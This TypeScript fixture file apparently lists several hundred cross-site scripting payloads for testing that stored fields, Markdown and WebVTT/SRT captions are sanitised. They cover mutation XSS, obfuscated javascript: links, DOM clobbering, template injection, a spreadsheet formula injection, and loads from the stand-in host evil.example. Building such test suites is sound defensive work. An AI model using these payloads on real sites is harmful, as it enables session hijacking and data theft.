// What is put into every stored field and into captions, and must run nowhere (catalogue IN5).
//
// Joined by blank lines they fit one description, of 20,000 characters, and none takes a later one away: what swallows the
// rest of a text stands last. CommonMark passes an unquoted value with `=` on as raw HTML only inside a block, so such
// payloads begin with the tag of one, often `<hr>`.

/** What a payload runs. */
export const RUN = "window.__pwned=1";

/** A name takes the first two hundred characters of a payload, and no control character: those stand behind this. */
const FAR = "x ".repeat(100);

/** Each runs where it is taken as markup, address, template or script. */
export const PAYLOADS: string[] = [
  // Markup of every kind in places of every kind: text, attributes, elements of raw text, foreign elements, addresses.
  // One that leaves an element open is followed by one that begins with its end.
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</template><img src=x onerror=${RUN}>`,
  `</noscript><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}" `,
  `<img src=x:alert(1) onerror=eval(src)>`,
  `<img/src/onerror=${RUN}>`,
  `<img src=\`x\` onerror=${RUN}>`,
  `<image src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" autofocus onfocus=${RUN} x="`,
  `' autofocus onfocus=${RUN} x='`,
  `" onmouseover="${RUN}`,
  `\` onclick=${RUN} \``,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>X</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></foreignObject></svg>`,
  `</iframe></foreignObject></svg><img src=x onerror=${RUN}>`,
  `<math><mtext></p><img src=x onerror=${RUN}>`,
  `<hr></mtext></math><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">CLICK</math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `</table></mtext></math><img src=x onerror=${RUN}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `</form></style></mglyph></form></mtext></math><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<iframe src="javascript:parent.__pwned=1"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe onload=${RUN}></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="data:text/html,<script>parent.__pwned=1</script>"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href=" &#14; javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>opener.__pwned=1</script>">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css';body{background:url(javascript:${RUN})}</style>`,
  `<p style="background:url(//evil.example/x)">x</p>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `</select><img src="x" onerror="${RUN}">`,
  `<video><source onerror=${RUN}></video>`,
  `<video src=x onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<dialog open onclose=${RUN}>x</dialog>`,
  `<div popover id=p onbeforetoggle=${RUN}></div><button popovertarget=p autofocus>x</button>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `[x](javascript:${RUN})`,
  `[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)`,
  `![x](x"onerror="${RUN})`,
  `![x](javascript:${RUN})`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}\n[x]`,
  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\${${RUN}}{{${RUN}}}{%${RUN}%}#{${RUN}}`,
  `\u2028${RUN}\u2029`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `<x onclick=${RUN} tabindex=1 autofocus onfocus=${RUN}>x`,
  `";${RUN};"`,
  `';${RUN};//`,

  // Links of Markdown: a scheme that runs, by case, reference, percent, escape, white space and look-alikes.
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java&Tab;script:${RUN})`,
  `[x](&#x6A;avascript&colon;${RUN})`,
  `[x](&#1;javascript:${RUN})`,
  `[x](javascript%3A${RUN})`,
  `[x](%6A%61vascript:${RUN})`,
  `[x](javascript\\:${RUN})`,
  `[x](<\tjavascript:${RUN}>)`,
  `[x](javascript\uff1a${RUN})`,
  `[x](java\u017fcript:${RUN})`,
  `[x](java\u00adscript:${RUN})`,
  `[x](\u202ejavascript:${RUN})`,
  `[x](\ufeffjavascript:${RUN})`,
  `[x](\u3000javascript:${RUN})`,
  `[x](javascript://%0a${RUN})`,
  `[x](VBScript:${RUN})`,
  `[x](livescript:${RUN})`,
  `[x](view-source:javascript:${RUN})`,
  `[x](DATA:text/html,%3Cscript%3Eopener.__pwned=1%3C/script%3E)`,
  `[x](//evil.example/x)`,
  `[x](/\\evil.example/x)`,

  // Labels, titles and alternative texts that end the attribute they are put into.
  `[x](#x "\\" onfocus=\\"${RUN}")`,
  `[x](#x '" autofocus tabindex=1 onfocus="${RUN}')`,
  `[x](#"onmouseover="${RUN})`,
  `[<img src="x" onerror="${RUN}">](#x)`,
  `[![x](x)](javascript:${RUN})`,
  `![" onerror="${RUN}](x)`,
  `![x](x '" onerror="${RUN}')`,
  `![x](data:image/svg+xml,%3Csvg%20onload=%22${RUN}%22/%3E)`,
  `![x](//evil.example/x.png)`,

  // Autolinks, in angle brackets and bare.
  `<JAVASCRIPT:${RUN}>`,
  `<vbscript:${RUN}>`,
  `<data:text/html,%3Csvg%20onload=%22opener.__pwned=1%22%3E>`,
  `<javascript:0"onmouseover="${RUN}>`,
  `javascript://evil.example/%0a${RUN}`,
  `x@evil.example"onmouseover="${RUN}`,

  // Definitions of references: address, title and label.
  `[r1]\n\n[r1]: JAVASCRIPT:${RUN}`,
  `![r2]\n\n[r2]: data:image/svg+xml,%3Csvg/onload=${RUN}%3E`,
  `[r3]\n\n[r3]: # "\\"><img src=x onerror=${RUN}>"`,
  `[r4][]\n\n[r4]:\n  java&NewLine;script:${RUN}\n  'x'`,
  `[<b onclick="${RUN}">]: javascript:${RUN}\n\n[<b onclick="${RUN}">]`,

  // Footnotes: their text, and their name, which becomes an id.
  `x[^f1]\n\n[^f1]: <img src="x" onerror="${RUN}">`,
  `x[^"onclick="${RUN}]\n\n[^"onclick="${RUN}]: x`,
  `x[^</a><svg/onload="${RUN}">]\n\n[^</a><svg/onload="${RUN}">]: x`,
  `^[<svg onload="${RUN}">]`,

  // Tables, task lists and alerts.
  `|<img src="x" onerror="${RUN}">|\n|-|\n|[x](javascript:${RUN})|`,
  `|x|\n|:-:|\n|</td></table><svg onload="${RUN}">|`,
  `- [ ] <input type="image" src="x" onerror="${RUN}">`,
  `- [x] " onclick="${RUN}`,
  `> [!NOTE] <img src="x" onerror="${RUN}">\n> x`,
  `> [!"><svg onload="${RUN}">]\n> x`,

  // Code: the info string, and text that ends what a highlighter puts around it.
  `\`\`\`x" onclick="${RUN}\nx\n\`\`\``,
  `~~~html{onclick="${RUN}"}\n<b>\n~~~`,
  `\`\`\`js\nx = "</span></code></pre><img src=x onerror=${RUN}>"\n\`\`\``,
  `\`\`\`rust\nlet x = r#"</span><script>${RUN}</script>"#;\n\`\`\``,
  `\`\`\`css\na{b:"</style><script>${RUN}</script>"}\n\`\`\``,
  `\`\`\`php\n<?="?></code><svg onload=${RUN}>"?>\n\`\`\``,
  `\`\`\`mermaid\ngraph TD\nA["<img src=x onerror=${RUN}>"]\nclick A "javascript:${RUN}"\n\`\`\``,
  `\`\`\`math\n\\href{javascript:${RUN}}{x}\n\`\`\``,
  `\`\` \`<img src=x onerror=${RUN}> \`\``,

  // Headings, whose text becomes an id, and braces that some take as attributes.
  `# <img src="x" onerror="${RUN}">`,
  `## " onmouseover="${RUN}" x="`,
  `x<svg onload="${RUN}">\n===`,
  `### x {#y onclick="${RUN}"}`,
  `[x]{onmouseover="${RUN}"}`,
  `:::{onclick="${RUN}"}\nx\n:::`,

  // Formulas, wiki links, front matter, short codes and marks.
  `$\\href{javascript:${RUN}}{x}$`,
  `$$\\htmlData{x="onclick=${RUN}}{x}$$`,
  `[[javascript:${RUN}]]`,
  `[[x|<img src="x" onerror="${RUN}">]]`,
  `---\ntitle: "<script>${RUN}</script>"\n---`,
  `+++\ntitle="</title><svg onload=${RUN}>"\n+++`,
  `{{< raw >}}<script>${RUN}</script>{{< /raw >}}`,
  `==<mark onclick="${RUN}">x</mark>==`,

  // Handlers of events on elements of every kind.
  `<video autoplay oncanplay="${RUN}" src="x"></video>`,
  `<audio onloadstart="${RUN}" src="x"></audio>`,
  `<body onhashchange="${RUN}"><a href="#x">x</a>`,
  `<frameset onload="${RUN}"><frame src="javascript:${RUN}"></frameset>`,
  `<details ontoggle="${RUN}" open><summary onclick="${RUN}">x</summary></details>`,
  `<p style="animation:x 1s" onanimationstart="${RUN}">x</p>`,
  `<p contenteditable onbeforeinput="${RUN}" onpaste="${RUN}">x</p>`,
  `<table onclick="${RUN}"><td background="javascript:${RUN}">x</table>`,
  `<dl><dt draggable="true" ondragstart="${RUN}">x<dd oncopy="${RUN}">x</dl>`,
  `<fieldset><legend onclick="${RUN}">x</legend></fieldset>`,
  `<input type="image" src="x" onerror="${RUN}">`,
  `<textarea autofocus onfocus="${RUN}">x</textarea>`,
  `<select autofocus onfocus="${RUN}"><option>x</select>`,
  `<embed src="x" type="text/html" onload="${RUN}">`,
  `<div hidden="until-found" onbeforematch="${RUN}">x</div>`,
  `<address accesskey="x" onclick="${RUN}">x</address>`,
  `<xss style="content-visibility:auto" oncontentvisibilityautostatechange="${RUN}">x</xss>`,
  `<ruby onclick="${RUN}">x<rt onclick="${RUN}">x</ruby>`,

  // Tags that a pattern does not find: separators, case, quotes that do not pair.
  `<p><img src="x"\nONERROR = "${RUN}">`,
  `<p><img src=x\x0conerror=${RUN}>`,
  `<p><img """><script>${RUN}</script>">`,
  `<p><<script>${RUN}//<</script>`,
  `<hr><svg///onload=${RUN}>`,
  `<hr><img src="x"onerror="${RUN}">`,
  `<hr><b <script>${RUN}</script>`,

  // Addresses in attributes, hidden from a pattern, and in attributes that few think of.
  `<a href="&#x6a;&#x61;vascript&#58;${RUN}">x</a>`,
  `<a href="&#0000106avascript:${RUN}">x</a>`,
  `<a href="\njavas\ncript\n:${RUN}">x</a>`,
  `<a href="#x" ping="//evil.example/x">x</a>`,
  `<a href="//evil.example\\@x" target="_blank" rel="opener">x</a>`,
  `<hr><a href=javascript:${RUN}>x</a>`,
  `<hr><a xlink:href="javascript:${RUN}" xml:base="javascript:${RUN}//">x</a>`,
  `<img srcset="//evil.example/x 1x,javascript:${RUN} 2x">`,
  `<img src="/\\evil.example/x.png">`,
  `<img src="/&#9;/evil.example/x.png">`,
  `<img src="x" usemap="#m"><map name="m"><area href="javascript:${RUN}"></map>`,
  `<picture><source srcset="//evil.example/x.png"><img src="x" onerror="${RUN}"></picture>`,
  `<video poster="javascript:${RUN}" src="//evil.example/x.mp4"></video>`,
  `<body background="javascript:${RUN}">`,
  `<blockquote cite="javascript:${RUN}">x</blockquote>`,
  `<form id="f"></form><button form="f" formaction="JAVASCRIPT:${RUN}">x</button>`,
  `<form action="//evil.example/x"><input type="submit" formaction="javascript:${RUN}"></form>`,
  `<iframe src="data:text/html,<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.__pwned=1&gt;"></iframe>`,
  `<object><param name="src" value="javascript:${RUN}"></object>`,

  // Styles: addresses and expressions, a sheet that ends early.
  `<p style="width:expression(${RUN})">x</p>`,
  `<p style="background:u\\72l(javascript:${RUN})">x</p>`,
  `<p style="behavior:url(//evil.example/x);-moz-binding:url(//evil.example/x)">x</p>`,
  `<style onload="${RUN}"></style>`,
  `<style><!--</style><script>${RUN}//--></script>`,

  // What belongs into a head: refresh, base, links, encodings, import maps.
  `<meta http-equiv="refresh" content="0;url=data:text/html,<script>opener.__pwned=1</script>">`,
  `<meta http-equiv="refresh" content='0;URL="//evil.example/"'>`,
  `<meta charset="utf-7">+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<base href="javascript:/x/-${RUN}//">`,
  `<link rel="import" href="//evil.example/x.html" onload="${RUN}">`,
  `<link rel="stylesheet" href="javascript:${RUN}">`,
  `<script type="importmap">{"imports":{"x":"data:text/javascript,${RUN}"}}</script>`,
  `<script type="module">import "data:text/javascript,${RUN}"</script>`,

  // SVG and MathML: animated addresses, handlers, script with references, actions.
  `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="20">x</text></a></svg>`,
  `<svg><set attributeName="href" to="javascript:${RUN}" onbegin="${RUN}"/></svg>`,
  `<svg><image href="x" onerror="${RUN}"/></svg>`,
  `<svg><discard onbegin="${RUN}"/></svg>`,
  `<svg><script>&#119;indow.__pwned=1</script></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<math><maction actiontype="statusline" href="javascript:${RUN}">x</maction></math>`,

  // Markup that means something else once it was cleaned, written out and parsed again: namespaces.
  `<hr><svg></p><style><a id="</style><img src=x onerror=${RUN}>"></style></svg></a>`,
  `<hr><svg><style><img title="</style><img src=x onerror=${RUN}>"></style></svg>`,
  `<hr><svg><title><style><!--</style><img src=x onerror=${RUN}>--></title></svg>`,
  `<hr><svg><foreignObject><math><mi><style><p title="</style><img src=x onerror=${RUN}>"></style></p></mi></math></foreignObject></svg>`,
  `<hr><svg><font color=x><img src=x onerror=${RUN}></font></svg>`,
  `<hr><svg><![CDATA[><img src=x onerror=${RUN}>]]></svg>`,
  `<hr><math><annotation-xml encoding="text/html"><svg><style><p id="</style><img src=x onerror=${RUN}>"></style></svg></p></annotation-xml></math>`,
  `<hr><math><mtext><mglyph><malignmark><style><p id="</style><img src=x onerror=${RUN}>"></style></p></mtext></math>`,
  `<form><svg><desc></form><form><style><p id="</style><img src=x onerror=${RUN}>"></style></form></desc></svg>`,
  `<table><math><mtext><style><p id="</style><img src=x onerror=${RUN}>"></style></mtext></math></table>`,

  // The same: elements whose text is raw to one parser and markup to the next, tables, selects, templates, formatting.
  `<hr><noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<hr><noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<hr><noframes><p title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
  `<hr><xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<hr><iframe><p title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
  `<hr><textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  `<hr><select><style></select><img src=x onerror=${RUN}></style></select>`,
  `<table><a href="javascript:${RUN}"><tr><a><img src=x onerror=${RUN}></table></a>`,
  `<hr><listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<hr><img src=x alt="\`\`onerror=${RUN}">`,

  // Comments, declarations, instructions and sections that end earlier than they look.
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!---><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}>-->`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<!DOCTYPE x [<!ENTITY x "<script>${RUN}</script>">]><x>&x;</x>`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml ><img src=x onerror=${RUN}>?>`,
  `<hr></!><img src=x onerror=${RUN}>`,

  // Ends of what a field may stand in, and script that an escape hides.
  `</p></xmp></noembed></iframe></select></object><img src=x onerror=${RUN}>`,
  `<script><!--<script></script>-->${RUN}</script>`,
  `</ScRiPt\n><script>${RUN}</script>`,

  // Names that would stand in for a property of the window, the document or a form.
  `<a id="body" name="__pwned">x</a>`,
  `<a id="__pwned" href="javascript:${RUN}">x</a><a id="__pwned" name="src">x</a>`,
  `<img id="__pwned" name="cookie" src="x">`,
  `<form id="__pwned" name="querySelector"><input name="attributes"></form>`,
  `<iframe name="__pwned" srcdoc="x"></iframe>`,

  // Templates, attributes of frameworks, and what a page carries for its script.
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>\${{${RUN}}}@{${RUN}}[[\${${RUN}}]]`,
  `<div ng-app ng-init="${RUN}" v-html="'<svg onload=${RUN}>'" @click="${RUN}" x-data x-init="${RUN}">x</div>`,
  `<p hx-get="//evil.example/x" hx-trigger="load" hx-on:click="${RUN}" on:click="${RUN}">x</p>`,
  `<leptos-island data-component="x" data-props="<svg onload=${RUN}>">x</leptos-island>`,
  `__RESOLVED_RESOURCES[0]="</script><script>${RUN}</script>"`,
  `<!--<script>${RUN}//--></script>`,
  `</script><!--<script>${RUN}//`,
  `"}]}</script><script>${RUN}</script>{"x":[{"`,
  `\\";${RUN};//`,
  `'-(${RUN})-'`,
  `*/${RUN}/*`,
  `"\u2028;${RUN}//`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,

  // Encoded more than once, letters that fold to others, directions that reverse.
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<\u017fcript>${RUN}</\u017fcript>`,
  `\u202e<script>${RUN}</script>\u202c`,
  `\u2067\u2066<img src="x" onerror="${RUN}">\u2069\u2069`,

  // Control characters as they are.
  `${FAR}[x](<\x01javascript:${RUN}>)[x](<java\x08script:${RUN}>)[x](<\x7fjavascript:${RUN}>)`,
  `${FAR}<a href="\x1fjava\x02script:${RUN}">x</a><a href="\x85javascript:${RUN}">x</a><img \x0b\x1bonerror="${RUN}">`,

  // Length and depth. Quotes not deeper than a text is still rendered at, for all of a joined text would be shown as typed.
  `<p ${Array.from({ length: 120 }, (_, at) => `a${at}`).join(" ")} onclick="${RUN}">x</p>`,
  `${"[".repeat(60)}x](javascript:${RUN})`,
  `${">".repeat(200)}<img src="x" onerror="${RUN}">`,
  `${"<div>".repeat(300)}<img src=x onerror=${RUN}>`,

  // Never ended: each may take away what follows it.
  `<a href="javascript:${RUN}`,
  `<table><tr><td><svg onload=${RUN}><foreignObject>`,
  `<p><img src=x onerror=${RUN} x="`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>`,
  `<hr><template><img src=x onerror=${RUN}>`,
  `\`\`\`"onclick="${RUN}`,
  `<!--><script>${RUN}</script>`,
  `<textarea><img src=x onerror=${RUN}>`,
  `<script>${RUN}//`,
  `<p onclick="${RUN}"><plaintext>`,
];

/**
 * Each is the body of one cue: lines of which none is empty and none holds the arrow of a timing line, which would end
 * the cue.
 */
export const CAPTION_PAYLOADS: string[] = [
  // Voices, whose annotation is free text.
  `<v "><img src=x onerror=${RUN}>x</v>`,
  `<v <img src=x onerror=${RUN}>>x</v>`,
  `<v &lt;img src=x onerror=${RUN}&gt;>x</v>`,
  `<v " onmouseover="${RUN}">x</v>`,
  `<v.x"onclick="${RUN} Ada>x</v>`,
  `<v\n<script>${RUN}</script>>x</v>`,
  `<v Ada</v><script>${RUN}</script>`,
  `<v javascript:${RUN}>[x](javascript:${RUN})</v>`,
  `Ada: <script>${RUN}</script>`,

  // Classes, which become attributes.
  `<c.class onclick="${RUN}">x</c>`,
  `<c.x"><svg/onload=${RUN}>x</c>`,
  `<c.x"onmouseover="${RUN}>x</c>`,
  `<c.x&quot;&gt;&lt;svg/onload=${RUN}&gt;>x</c>`,
  `<c.${"x.".repeat(200)}"onclick="${RUN}>x</c>`,
  `<c.user-__pwned.stage-controls id="__pwned">x</c>`,
  `<c style="background:url(javascript:${RUN})">x</c>`,

  // Languages.
  `<lang en"><script>${RUN}</script>>x</lang>`,
  `<lang en" onclick="${RUN}">x</lang>`,
  `<lang javascript:${RUN}>x</lang>`,

  // The other tags of cues, with what they do not take.
  `<b onclick="${RUN}">x</b>`,
  `<i/onpointerenter="${RUN}">x</i>`,
  `<u autofocus tabindex=1 onfocus="${RUN}">x</u>`,
  `<ruby onclick="${RUN}">x<rt onclick="${RUN}"><img src=x onerror=${RUN}></rt></ruby>`,
  `<ruby><rt><svg onload=${RUN}></ruby>`,
  `<b><script>${RUN}</script></b>`,
  `<b><i><u><c><v x><lang en><script>${RUN}</script>`,

  // Moments, well formed and not.
  `<00:00:01.000><img src=x onerror=${RUN}>`,
  `<00:00:01.000 onclick="${RUN}">x`,
  `<00:00:01.000"><script>${RUN}</script>>x`,
  `<99999999999:99:99.999><svg onload=${RUN}>`,
  `<00:00:01,000><b onclick="${RUN}">x</b>`,

  // Tags that no cue has.
  `<script>${RUN}\n</script>`,
  `x\n<img src=x\nonerror=${RUN}>`,
  `<font color="red" onclick="${RUN}" face="x\\"><script>${RUN}</script>">x</font>`,
  `<a.x href="javascript:${RUN}">x</a>`,
  `<iframe.x srcdoc="<script>parent.__pwned=1</script>">x</iframe>`,
  `<style>*{x:expression(${RUN})}</style><link rel=stylesheet href=//evil.example/x.css>`,
  `<math><mtext><table><mglyph><style><p id="</style><img src=x onerror=${RUN}>"></style></table></mtext></math>`,
  `<svg><style><b id="</style><img src=x onerror=${RUN}>"></style></svg>`,
  `<noscript><i title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `</track></video></div><script>${RUN}</script>`,
  `</textarea></title></template></style></script><svg onload=${RUN}>`,

  // References: decoded once, twice, or where they should not be.
  `<b>&lt;script&gt;${RUN}&lt;/script&gt;</b>`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `&#60;svg onload=${RUN}&#62;`,
  `&#x3c;svg onload=${RUN}&#x3e`,
  `&LT;img src=x onerror&equals;${RUN}&GT;`,
  `&lrm;&rlm;&nbsp;<b onclick=&quot;${RUN}&quot;>x</b>`,
  `&#0;&#xD800;&#x110000;&<script>${RUN}</script>`,

  // Look-alikes of the arrow: none ends the cue until something decodes, folds or joins it.
  `00:00:02.000 --&gt; 00:00:03.000\n<script>${RUN}</script>`,
  `00:00:02.000 --\uff1e 00:00:03.000 align:<svg onload=${RUN}>`,
  `00:00:02.000 \u2013> 00:00:03.000\n<img src=x onerror=${RUN}>`,
  `00:00:02,000 -\u200b-> 00:00:03,000\n<b onclick="${RUN}">x</b>`,
  `2\n00:00:02,000 -- > 00:00:03,000\n<script>${RUN}</script>`,
  `--!><script>${RUN}</script><!--`,

  // Lines that begin a block elsewhere in a file: notes, styles, regions, headers.
  `NOTE <script>${RUN}</script>`,
  `NOTE\n<!-x><img src=x onerror=${RUN}>`,
  `STYLE\n::cue{background:url(javascript:${RUN})}`,
  `STYLE\n::cue(b){x:expression(${RUN})}</style><script>${RUN}</script>`,
  `STYLE\n@import "//evil.example/x.css";`,
  `REGION\nid:"><script>${RUN}</script>\nwidth:40%`,
  `WEBVTT <script>${RUN}</script>\nX-TIMESTAMP-MAP=LOCAL:00:00:00.000,MPEGTS:${RUN}`,
  `\ufeffWEBVTT\nKind: captions"><svg onload=${RUN}>`,

  // Marks of SRT and of what is made from it.
  `{\\an8}<font color="javascript:${RUN}" size=7 onclick="${RUN}">x</font>`,
  `{b}{\\c&H0000FF&}<img src=x onerror=${RUN}>{/b}`,
  `{y:i}{c:$0000FF}"};${RUN};//|<svg onload=${RUN}>`,
  `X1:0 X2:<script>${RUN}</script> Y1:0 Y2:0\nx`,
  `- <script>${RUN}</script>\n- \u266a <svg onload=${RUN}> \u266a`,

  // Where a transcript is taken as Markdown, as a template, or as data in a page.
  `[x](javascript:${RUN}) ![x](x"onerror="${RUN})`,
  `<javascript:${RUN}>\n[x]: javascript:${RUN}`,
  `{{constructor.constructor('${RUN}')()}}\${${RUN}}`,
  `"}]}</script><script>${RUN}</script>`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e\n';${RUN};//`,
  `</script><!--<script>${RUN}`,
  `=cmd|'${RUN}'!A0\n@SUM(1)<svg onload=${RUN}>`,

  // Directions, invisible characters and control characters; some end a line elsewhere.
  `\u202e<script>${RUN}</script>`,
  `\u2066\u2067\u2068<v \u202d"><img src=x onerror=${RUN}>\u2069`,
  `x\u2028<script>${RUN}</script>\u2029x`,
  `x\x85<b onclick="${RUN}">x</b>`,
  `x\x0b\x0c<img\x0csrc=x\x0conerror=${RUN}>`,
  `\x01\x02\x08\x1b[31m<script>${RUN}</script>\x1b]0;x\x07\x7f`,
  `<\u200bscript>${RUN}</\u200bscript><\u017fcript>${RUN}</\u017fcript>`,
  `\ufff9<svg onload=${RUN}>\ufffa\ufffb\ufffe\uffff`,

  // Length, depth, and what never ends.
  `${"<b>".repeat(300)}<script>${RUN}</script>`,
  `${"<c.x>".repeat(150)}<img src=x onerror=${RUN}>${"</c>".repeat(150)}`,
  `${"<ruby><rt>".repeat(60)}<svg onload=${RUN}>`,
  `${"x\n".repeat(400)}<script>${RUN}</script>`,
  `<v ${"x".repeat(1500)}"><img src=x onerror=${RUN}>`,
  `<b onclick="${RUN}`,
  `<img src=x onerror=${RUN} x="`,
  `<c.x"onclick=${RUN}//`,
  `<textarea><script>${RUN}</script>`,
  `<plaintext><!--<script>${RUN}//`,
];
